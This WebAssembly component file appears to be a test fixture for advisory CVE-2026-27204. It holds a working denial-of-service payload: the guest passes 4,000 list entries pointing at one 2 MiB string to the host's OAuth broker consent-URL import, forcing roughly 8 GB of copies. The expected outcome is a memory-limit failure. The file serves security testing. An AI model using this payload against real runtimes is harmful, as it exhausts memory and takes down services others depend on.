;; behaviour: passes 4,000 strings that are all the same 2 MiB: 8 GB for whoever copies them
;; contract: component
;; advisory: CVE-2026-27204
;; verdict: memory_limit
;; note: the copies are made before any host code sees them, so only the process limit can stop it

(component
  (import "greentic:oauth-broker/broker-v1@1.0.0" (instance $broker
    (export "get-consent-url" (func (param "provider-id" string) (param "subject" string)
      (param "scopes" (list string)) (param "redirect-path" string) (param "extra-json" string) (result string)))))

  (core module $memory
    (memory (export "memory") 34)
    (func (export "cabi_realloc") (param i32 i32 i32 i32) (result i32) (i32.const 65536)))
  (core instance $memory (instantiate $memory))
  (core func $get-consent-url (canon lower (func $broker "get-consent-url")
    (memory $memory "memory") (realloc (func $memory "cabi_realloc"))))

  (core module $guest
    (import "memory" "memory" (memory 34))
    (import "host" "get-consent-url" (func $get-consent-url (param i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32)))
    (data (i32.const 4) "\10\00\00\00" "\02\00\00\00")
    (data (i32.const 16) "{}")
    (data (i32.const 64) "x")
    (func (export "run") (param i32 i32) (result i32)
      (local $entry i32)
      ;; 4,000 entries from 1024 on, each the string at 131072.
      (local.set $entry (i32.const 33024))
      (loop $again
        (local.set $entry (i32.sub (local.get $entry) (i32.const 8)))
        (i32.store (local.get $entry) (i32.const 131072))
        (i32.store offset=4 (local.get $entry) (i32.const 2097152))
        (br_if $again (i32.gt_u (local.get $entry) (i32.const 1024))))
      (call $get-consent-url
        (i32.const 64) (i32.const 1) (i32.const 64) (i32.const 1)
        (i32.const 1024) (i32.const 4000)
        (i32.const 64) (i32.const 1) (i32.const 64) (i32.const 1)
        (i32.const 32))
      (i32.const 0)))
  (core instance $guest (instantiate $guest
    (with "memory" (instance $memory))
    (with "host" (instance
      (export "get-consent-url" (func $get-consent-url))))))

  (type $failure (record (field "code" string) (field "message" string)))
  (func $run (param "request" string) (result (result string (error $failure)))
    (canon lift (core func $guest "run")
      (memory $memory "memory") (realloc (func $memory "cabi_realloc"))))
  (instance (export "greentic:provision-step/step@1.0.0")
    (export "failure" (type $failure))
    (export "run" (func $run))))
